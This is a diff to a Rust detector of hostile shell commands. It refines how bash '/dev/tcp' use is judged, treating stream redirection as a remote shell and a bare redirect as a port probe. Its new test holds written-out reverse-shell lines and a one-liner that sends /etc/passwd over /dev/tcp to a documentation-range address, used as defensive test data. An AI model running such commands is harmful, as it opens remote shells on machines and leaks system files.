@@ -599,8 +599,12 @@ fn string_needles(text: &str) -> u16 {
         // Mercurial template) or `| sha256sum` pipes into no shell.
         let longer_name = pipes_to_shell(&text.as_bytes()[m.start()..m.end()])
             && text.as_bytes().get(m.end()).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
+        // Bash's `/dev/tcp` with a stream redirected onto it (`bash -i >&
+        // /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`) is a shell on a socket;
+        // `echo -n > /dev/tcp/h/p` only tests whether a port answers.
+        let port_probe = &text[m.start()..m.end()] == "/dev/tcp" && !redirects_a_stream(text);
         let mut b = bits[i];
-        if literal || inside_word || longer_name {
+        if literal || inside_word || longer_name || port_probe {
             b &= !HOSTILE_NEEDLE;
         }
         if b & CREDENTIAL_NEEDLE != 0 && (in_option_name(text, m.start()) || names_a_field(text, m.start(), m.end())) {
@@ -635,6 +639,12 @@ pub fn keyword_stays_in_call(callee: &str, keyword: &str) -> bool {
 /// front-ends keep the call's name and read none of its arguments.
 pub fn result_holds_no_argument(callee: &str) -> bool {
     matches!(callee, "re.compile" | "regex.compile")
+}
+
+/// Whether a command line redirects a stream onto what it opens (`>&`,
+/// `<&`, `<>`, `0>&1`), as a shell handed to `/dev/tcp` does.
+fn redirects_a_stream(text: &str) -> bool {
+    [">&", "<&", "<>"].iter().any(|r| text.contains(r))
 }
 
 /// `| sh`, `|bash` and the like: a needle of [`HOSTILE_FRAGMENTS`] that
@@ -1881,6 +1891,14 @@ mod tests {
         let scopes = Scopes::new(&facts);
         assert_eq!(scopes.at(depth + 1), depth as u32);
         assert!((1..=depth as u32).all(|s| scopes.parent[s as usize] == s - 1));
+    }
+
+    #[test]
+    fn dev_tcp_is_hostile_with_a_stream_on_it_not_as_a_port_probe() {
+        assert!(is_hostile_command("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"));
+        assert!(is_hostile_command("exec 5<>/dev/tcp/203.0.113.5/80; cat <&5 | sh"));
+        assert!(is_hostile_command("sh -c 'cat /etc/passwd >& /dev/tcp/203.0.113.5/9'"));
+        assert!(!is_hostile_command("docker exec db /bin/bash -c 'echo -n > /dev/tcp/db/5432'"));
     }
 
     #[test]
